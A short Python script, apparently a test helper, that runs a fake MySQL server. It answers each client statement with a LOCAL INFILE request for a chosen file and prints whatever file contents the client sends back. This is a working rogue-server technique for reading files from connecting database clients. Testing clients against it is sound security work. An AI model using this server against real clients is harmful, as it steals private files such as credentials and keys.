"""A MySQL server that answers each statement by asking for a file of the client's.

curious_mysql.py FILE: prints the port that it listens on, then "offered" for a client that offers
files, and a line for each packet with which it was sent what FILE holds."""
import socket, sys
from relay import serve_forever

CAPABILITIES = 0x81BFF7FF  # all that do not change the packets: LOCAL FILES, 4.1, plugins
LOCAL_FILES = 0x80


def read_packet(client):
    head = client.recv(4, socket.MSG_WAITALL)
    if len(head) < 4:
        return None
    return client.recv(int.from_bytes(head[:3], "little"), socket.MSG_WAITALL)


def send_packet(client, number, payload):
    client.sendall(len(payload).to_bytes(3, "little") + bytes([number]) + payload)


def serve(client):
    low, high = (CAPABILITIES & 0xFFFF & ~0x800), CAPABILITIES >> 16 & 0xFF
    send_packet(client, 0, b"\x0a8.0.30\0" + bytes(4) + b"saltsalt\0" + low.to_bytes(2, "little")
                + b"\x2d\x02\0" + high.to_bytes(2, "little") + b"\x15" + bytes(10)
                + b"saltsaltsalt\0mysql_native_password\0")
    login = read_packet(client)
    if login and int.from_bytes(login[:4], "little") & LOCAL_FILES:
        print("offered", flush=True)
    send_packet(client, 2, b"\0\0\0\x02\0\0\0")
    while read_packet(client):
        send_packet(client, 1, b"\xfb" + sys.argv[1].encode())
        while piece := read_packet(client):
            print("sent", piece, flush=True)
        send_packet(client, 3, b"\0\0\0\x02\0\0\0")


serve_forever(serve)
